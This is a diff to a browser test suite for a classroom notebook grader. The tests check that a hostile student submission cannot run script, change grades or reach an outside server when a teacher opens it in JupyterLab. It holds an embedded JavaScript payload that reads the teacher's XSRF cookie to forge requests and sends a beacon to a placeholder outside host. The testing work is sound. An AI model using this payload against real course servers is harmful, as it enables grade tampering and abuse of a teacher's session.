@@ -8,7 +8,7 @@ import pytest
 
 from mtedu_grader import gradebook_write
 from tests.browser.chromium import SCREENSHOTS
-from tests.browser.test_jupyterlab import TOKEN, served
+from tests.browser.test_jupyterlab import ROOT, TOKEN, served
 from tests.grader import submissions as make
 from tests.grader.classroom import LAB
 from tests.grader.in_process import InProcess
@@ -17,6 +17,7 @@ pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("released")]
 
 # With the teacher's rights: full marks for oneself, a file, a word to somebody outside.
 EVIL = """(async () => {
+  window.evil = true;
   const told = new Image(); told.src = 'PLACE/ran';
   const key = document.cookie.match(/_xsrf=([^;]+)/)[1];
   const headers = {'Content-Type': 'application/json', 'X-XSRFToken': key};
@@ -84,9 +85,9 @@ def hand_in(room, place):
 def open_page(room, chromium, tmp_path):
     """Open the submission as a teacher does, and wait until all is quiet."""
 
-    def look():
+    def look(*options):
         (number,) = room.rows("SELECT id FROM submitted_notebook")[0]
-        command = ["jupyterlab", "--no-browser", "--allow-root"]
+        command = ["jupyterlab", "--no-browser", "--allow-root", *options]
         context = chromium.new_context(viewport={"width": 1000, "height": 1000})
         with served(room.folder, command, tmp_path) as (address, _):
             page = context.new_page()
@@ -96,9 +97,10 @@ def open_page(room, chromium, tmp_path):
             page.wait_for_timeout(1000)
             SCREENSHOTS.mkdir(exist_ok=True)
             page.screenshot(path=SCREENSHOTS / "formgrader_hostile.png", full_page=True)
+            ran = page.evaluate("window.evil === true")
         context.close()
         given = "SELECT count(*) FROM grade WHERE manual_score IS NOT NULL"
-        return room.rows(given)[0][0], list(room.folder.rglob("evil*"))
+        return room.rows(given)[0][0], list(room.folder.rglob("evil*")), ran
 
     return look
 
@@ -106,7 +108,7 @@ def open_page(room, chromium, tmp_path):
 def test_nothing_of_a_submission_works_there(room, outside, open_page):
     place, heard = outside
     hand_in(room, place)
-    assert open_page() == (0, [])
+    assert open_page() == (0, [], False)
     assert heard == []
 
 
@@ -115,5 +117,19 @@ def test_otherwise_it_would(room, outside, open_page, monkeypatch):
     place, heard = outside
     monkeypatch.setattr(gradebook_write, "harmless", lambda notebook, trusted: notebook)
     hand_in(room, place)
-    open_page()
+    assert open_page()[2]
     assert "/ran" in heard
+
+
+@pytest.mark.long
+def test_the_policy_keeps_it_from_telling_anybody(
+    room, outside, open_page, monkeypatch
+):
+    """A second wall: what ran all the same would reach no server but this one."""
+    place, heard = outside
+    monkeypatch.setattr(gradebook_write, "harmless", lambda notebook, trusted: notebook)
+    hand_in(room, place)
+    settings = ROOT / "course" / "jupyter_server_config.py"
+    ran = open_page(f"--config={settings}")[2]
+    assert ran, "the page's own scripts do not run any more"
+    assert heard == []
